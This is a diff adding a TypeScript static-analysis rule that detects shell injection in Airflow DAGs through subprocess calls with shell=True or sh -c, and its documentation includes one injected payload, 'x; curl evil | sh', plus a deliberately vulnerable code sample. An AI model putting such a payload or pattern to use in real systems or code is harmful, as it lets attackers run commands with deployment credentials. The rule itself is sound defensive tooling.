@@ -1,0 +1,55 @@
+import type { SyntaxNode } from 'tree-sitter';
+import { defineRule } from '../../src/engine/rule';
+import { argument, callArgs, isTruthyConstant, unwrap } from '../../src/engine/python';
+import { atLeast, shellScriptInArgv } from '../../src/engine/airflow';
+import { callQuery, commandProvenance, matchedCallee, originWords, PARSE_TIME_NOTE, severityFor, snippet } from './_util';
+
+/** Take a `shell=` flag; the command is the first argument (`args=`). */
+const SHELL_FLAG = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
+/** Always run `/bin/sh -c cmd`. */
+const ALWAYS_SHELL = new Set(['subprocess.getoutput', 'subprocess.getstatusoutput']);
+
+export default defineRule({
+  meta: {
+    id: 'DG201',
+    name: 'subprocess-shell-with-input',
+    category: 'shell-injection',
+    severity: 'high',
+    message: '`{fn}` runs a shell command built from {origin} (`{value}`)',
+    aliases: ['B602', 'B604', 'S602', 'S604', 'B605', 'S605'],
+    docs: {
+      what:
+        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=`, `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]`, when the shell script is not constant. Names are followed to their assignment, loop or parameter: constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)` and numbers are fine; Variables and environment values are *medium*; TaskFlow parameters, `dag_run.conf`, `params`, XComs and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
+      why:
+        'The shell interprets `;`, `|`, `$(…)`, backquotes and newlines in the spliced value: a table name like `x; curl evil | sh` runs an attacker\'s command on the worker (or, at parse time, in the dag-processor) with the deployment\'s credentials. Values in DAGs come from `dag_run.conf`, params and XComs, which anyone allowed to trigger a DAG or to write upstream data controls.',
+      example:
+        '```python\n@task\ndef export(table: str):\n    subprocess.run(f"pg_dump -t {table} > /tmp/{table}.sql", shell=True, check=True)\n```',
+      useInstead:
+        '```python\n@task\ndef export(table: str):\n    with open(f"/tmp/{table}.sql", "wb") as out:\n        subprocess.run(["pg_dump", "-t", table], stdout=out, check=True)  # no shell\n    # if a shell is unavoidable: f"pg_dump -t {shlex.quote(table)}"\n```',
+    },
+  },
+  query: callQuery(['run', 'call', 'check_call', 'check_output', 'Popen', 'getoutput', 'getstatusoutput']),
+  onMatch(c, ctx) {
+    const m = matchedCallee(c, ctx);
+    if (!m) return;
+    const { call, fn } = m;
+    const args = callArgs(call);
+    let script: SyntaxNode | undefined;
+    if (ALWAYS_SHELL.has(fn)) script = argument(args, 'cmd', 0);
+    else if (SHELL_FLAG.has(fn)) {
+      const cmd = argument(args, 'args', 0);
+      if (!cmd) return;
+      const u = unwrap(cmd);
+      const shell = args.keywords.get('shell');
+      const list = u.type === 'list' || u.type === 'tuple' ? u.namedChildren.filter((x) => x.type !== 'comment') : null;
+      if (shell && isTruthyConstant(shell)) script = list ? list[0] : cmd;
+      else if (list) script = shellScriptInArgv(list) ?? undefined;
+    } else return;
+    if (!script) return;
+    const p = commandProvenance(script, ctx);
+    if (!atLeast(p.trust, 'config')) return;
+    const parse = ctx.isParseTime(call);
+    const msg = this.meta.message.replace('{fn}', fn).replace('{origin}', originWords(p.trust)).replace('{value}', snippet(p.node));
+    ctx.report(call, msg + (parse ? PARSE_TIME_NOTE : ''), { severity: severityFor(p.trust) });
+  },
+});
